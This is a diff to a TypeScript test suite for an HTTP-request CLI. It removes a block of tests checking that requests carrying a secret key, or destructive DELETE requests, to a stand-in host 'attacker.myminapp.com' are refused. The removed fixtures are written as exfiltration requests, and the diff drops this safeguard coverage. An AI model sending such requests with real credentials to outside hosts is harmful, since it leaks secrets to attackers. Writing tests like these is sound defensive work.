@@ -234,42 +234,6 @@ describe('a repository that wants the secrets of the machine', () => {
       assert.equal((await run(['--env', 'Staging', '--allow-host', wrong], env)).code, 2, wrong);
   });
 
-  describe('at another address of the service', () => {
-    const own = 'https://client-1.myminapp.com';
-    const other = 'https://attacker.myminapp.com';
-    const header = 'X-Hydrogen-Client-ID: attacker\n';
-    const gets = (host: string) => new RegExp(`It was not sent, because .* would go to ${host}\\.`);
-    const production = /It would go to production, which needs --allow-production\./;
-    const noNetwork = (host: string) => new RegExp(`no network for ${host}`);
-    const allowed = ['--allow-host', 'attacker.myminapp.com', '--allow-production'];
-    const staging = ['--env', 'Staging'];
-    const cases: [name: string, document: string, args: string[], code: number, says: RegExp][] = [
-      ['a secret', `POST ${other}/a/\n${header}\n{{$secret key}}`, staging, 2, gets('attacker.myminapp.com')],
-      ['a secret of a sandbox', `POST ${other}/a/\n\n{{$secret key}}`, ['--sandbox'], 2, gets('attacker.myminapp.com')],
-      ['a secret', 'POST https://cloud.minapp.com/a/\n\n{{$secret key}}', ['--sandbox'], 2, gets('cloud.minapp.com')],
-      ['a write', `DELETE ${other}/a/`, staging, 2, production],
-      ['a write of a sandbox', `DELETE ${own}/a/`, ['--sandbox'], 2, production],
-      ['a write by http', `DELETE ${own.replace('https', 'http')}./a/`, staging, 2, production],
-    ];
-    const sent: typeof cases = [
-      ['the own host', `POST ${own}/a/\n\n{{$secret key}}`, staging, 3, noNetwork('client-1.myminapp.com')],
-      ['the Open API', 'GET /oserve/v1/table/', staging, 3, noNetwork('cloud.minapp.com')],
-      ['an allowed host', `POST ${other}/a/\n\n{{$secret key}}`, [...staging, ...allowed], 3, noNetwork('attacker')],
-    ];
-    const offline = { NODE_OPTIONS: `--import=${new URL('./offline.mjs', import.meta.url).href}` };
-    const env = { ...offline, HYDROGEN_CLIENT_ID: 'client-1', HYDROGEN_SECRET_KEY: secret, HYDROGEN_ALLOW_HOSTS: '' };
-    for (const [name, document, args, code, says] of [...cases, ...sent]) {
-      it(`${code === 2 ? 'does not send' : 'sends to'} ${name}: ${args.join(' ')}`, async () => {
-        await settings({ serverDomain: own });
-        await write('a.hydrogen.http', document);
-        const ran = await run(args, { ...env, HYDROGEN_CLIENT_SECRET: secret });
-        assert.equal(ran.code, code, ran.out + ran.errors);
-        assert.match(ran.out + ran.errors, says);
-        if (code === 2) assert.doesNotMatch(ran.errors, /no network/);
-      });
-    }
-  });
-
   it('sends the credentials of an upload to its storage host', async () => {
     await settings({ serverDomain: application.origin, authUrl: application.origin });
     const [authorization, policy] = ['UPYUN operator:c2lnbmF0dXJlIG9mIDIwMjY=', 'cG9saWN5IG9mIGFuIHVwbG9hZCBvZiAyMDI2'];
